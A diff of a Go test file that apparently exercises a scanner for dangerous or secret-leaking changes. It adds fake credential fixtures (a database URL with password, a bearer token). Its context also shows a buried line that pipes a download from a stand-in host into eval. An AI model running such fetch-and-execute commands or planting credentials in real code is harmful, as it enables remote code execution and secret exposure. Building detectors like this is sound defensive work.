@@ -163,6 +163,8 @@ func traps() []trap {
 		named("below many ordinary lines", file(Fetch, "src/deep.txt", lines+"eval \"$(wget -qO- https://evil.example)\"\n"+lines)),
 		file(Secret, "src/key.go", "const key = \"AKIA"+"Z7QXK4MPLR2WTV6B\"\n"),
 		file(Secret, "src/pem.txt", "-----BEGIN RSA "+"PRIVATE KEY-----\n"),
+		file(Secret, "src/url.txt", "postgres://admin:hunter2hunter2"+"@db.example/x\n"),
+		file(Secret, "src/header.txt", "Authorization: Bearer abcdef0123456789abcdef\n"),
 		file(Secret, "src/pw.py", "password = \"correcthorsebattery9\"\n"),
 	}
 }
@@ -288,7 +290,7 @@ func TestHarmlessChangesAreNotDangerous(t *testing.T) {
 		for rel, text := range map[string]string{
 			"src/main.go": "package main\n\nfunc main() { fmt.Println(\"hi 👩\u200d💻 ❤️ é 世界\") }\n", "README.md": "# Ünïcode\n\n* a long but ordinary line " + strings.Repeat("word ", 100) + "\n",
 			"docs/ru.md": "Привет, мир\n", "docs/fa.md": "می\u200cخواهم\n", "src/a.py": "token = request.token\npassword = get()\n", "win.txt": "a\r\nb\r\n",
-			"src/style.css": "a { color: red }\n", "test/data.json": "{\"a\": 1, \"key\": \"value\"}\n", "curl.md": "use curl to fetch it, then read it\n",
+			"src/style.css": "a { color: red }\n", "test/data.json": "{\"a\": 1, \"key\": \"value\"}\n", "src/t.go": "token := authentication.NewTokenFromRequest2(request)\n\tsecretName: \"ordinary-words-only\",\n", "curl.md": "use curl to fetch it, then read it\n",
 		} {
 			if err := writes(rel, text)(dir); err != nil {
 				return err
